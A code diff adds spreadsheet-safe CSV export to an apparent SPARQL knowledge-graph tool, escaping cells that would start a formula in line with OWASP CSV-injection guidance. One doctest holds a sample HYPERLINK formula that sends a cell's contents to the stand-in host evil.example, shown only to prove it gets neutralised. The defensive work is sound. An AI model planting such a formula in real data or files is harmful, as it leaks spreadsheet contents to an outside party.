@@ -1,10 +1,21 @@
-"""Query results as CSV, JSON or a terminal table."""
+"""Query results as CSV, JSON or a terminal table.
+
+Two CSV forms: :func:`to_csv` is the standard SPARQL CSV results form (what the endpoint's ``text/csv``
+answer holds, and what the tests compare engines with); :func:`to_spreadsheet_csv` is for files people
+open in a spreadsheet (``eukg query --format csv``, the release's ``csv/`` files, the query page's CSV
+download through :func:`spreadsheet_csv`). It neutralises formula injection as the OWASP CSV-injection
+guidance says: a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
+single quote in front, so a spreadsheet shows it as text instead of running it; a cell that is a number
+(``-12.5``, ``+3``, ``1e-3``) stays a number. The RDF keeps every value as it was.
+"""
 
 from __future__ import annotations
 
 import csv
 import io
 import json
+import re
+from collections.abc import Iterable, Sequence
 
 from rdflib import Literal
 from rdflib.term import Node
@@ -12,6 +23,10 @@ from rdflib.term import Node
 from kg.queries import Result
 
 FORMATS = ("table", "csv", "json")
+
+#: First characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
 
 
 def plain(term: Node | None) -> str:
@@ -44,6 +59,42 @@ def to_csv(result: Result) -> str:
     writer.writerow(result.columns)
     writer.writerows([plain(term) for term in row] for row in result.rows)
     return buffer.getvalue()
+
+
+def spreadsheet_cell(value: str) -> str:
+    r"""Return ``value`` as a spreadsheet shows it as text: a quote in front when it would start a formula.
+
+    Examples
+    --------
+    >>> print(spreadsheet_cell('=HYPERLINK("http://evil.example/?x="&A1,"click")'))
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")
+    >>> [spreadsheet_cell(v) for v in ("-12.5", "+3", "@SUM(1+1)", "-2+3", chr(9) + "x", "Timișoara", "")]
+    ['-12.5', '+3', "'@SUM(1+1)", "'-2+3", "'\tx", 'Timișoara', '']
+    """
+    if value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
+        return "'" + value
+    return value
+
+
+def spreadsheet_csv(columns: Sequence[str], rows: Iterable[Iterable[str | None]]) -> str:
+    """Return CSV for a spreadsheet: a header line of ``columns``, then ``rows`` through :func:`spreadsheet_cell`.
+
+    Lines end in CRLF (RFC 4180), so a cell that holds a line break or a carriage return is quoted.
+
+    ``rows`` hold plain strings (None for an unbound cell), as SPARQL JSON results give them: the query
+    page's CSV download uses this too.
+    """
+    buffer = io.StringIO()
+    # CRLF line ends (RFC 4180, as spreadsheets write CSV): with them, csv quotes a cell holding a CR too
+    writer = csv.writer(buffer, lineterminator="\r\n")
+    writer.writerow([spreadsheet_cell(column) for column in columns])
+    writer.writerows([spreadsheet_cell(cell or "") for cell in row] for row in rows)
+    return buffer.getvalue()
+
+
+def to_spreadsheet_csv(result: Result) -> str:
+    """Return the result as CSV for a spreadsheet (:func:`to_csv` with formula injection neutralised)."""
+    return spreadsheet_csv(result.columns, ([plain(term) for term in row] for row in result.rows))
 
 
 def to_json(result: Result) -> str:
